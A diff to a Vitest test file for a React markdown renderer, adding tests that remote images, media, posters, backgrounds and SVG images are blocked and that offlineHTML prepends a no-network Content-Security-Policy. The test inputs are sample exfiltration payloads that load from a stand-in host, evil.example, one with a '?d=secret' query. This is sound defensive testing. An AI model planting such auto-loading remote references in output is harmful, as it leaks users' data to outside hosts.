@@ -3,7 +3,7 @@ import { act } from 'react';
 import { createRoot } from 'react-dom/client';
 import { afterEach, describe, expect, it, vi } from 'vitest';
 import { Markdown } from './components/Markdown';
-import { renderMarkdown } from './markdown';
+import { offlineHTML, renderMarkdown } from './markdown';
 
 (globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }).IS_REACT_ACT_ENVIRONMENT = true;
 
@@ -44,6 +44,33 @@ describe('renderMarkdown sanitizing', () => {
     expect(el.querySelector('h1')?.textContent).toBe('Title');
     expect(el.querySelector('strong')?.textContent).toBe('bold');
     expect(el.querySelectorAll('td')).toHaveLength(2);
+  });
+
+  it('never loads a remote URL by itself: images, media, posters, backgrounds, SVG images', () => {
+    const html = renderMarkdown(
+      '![chart](https://evil.example/c.png?d=secret) ![](//evil.example/x.gif)\n\n' +
+        '<video src="https://evil.example/v.mp4" poster="http://evil.example/p.png"></video>' +
+        '<audio><source src="https://evil.example/a.mp3"></audio>' +
+        '<table background="https://evil.example/bg.png"><tr><td>t</td></tr></table>' +
+        '<svg><image href="https://evil.example/s.png"></image></svg>' +
+        '![local](data:image/gif;base64,R0lGODlhAQABAAAAACw=)',
+    );
+    const doc = new DOMParser().parseFromString(html, 'text/html');
+    for (const el of Array.from(doc.body.querySelectorAll('*'))) {
+      for (const a of ['src', 'poster', 'background', 'href', 'xlink:href']) {
+        expect(el.getAttribute(a) ?? '', `${el.nodeName} ${a}`).not.toMatch(/evil\.example/);
+      }
+    }
+    const imgs = Array.from(doc.querySelectorAll('img'));
+    expect(imgs[0]?.getAttribute('alt')).toBe('chart (remote image not loaded)');
+    expect(imgs[0]?.getAttribute('data-blocked-src')).toBe('https://evil.example/c.png?d=secret');
+    expect(imgs[2]?.getAttribute('src')).toMatch(/^data:image\/gif/);
+  });
+
+  it('puts a no-network CSP in front of an HTML artifact for its frame', () => {
+    const html = offlineHTML('<img src="https://evil.example/x.png"><style>body{background:url(https://evil.example/b)}</style>');
+    expect(html.startsWith('<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; img-src data: blob:;')).toBe(true);
+    expect(html).toContain('<img src="https://evil.example/x.png">');
   });
 
   it('marks external links for the click handler', () => {
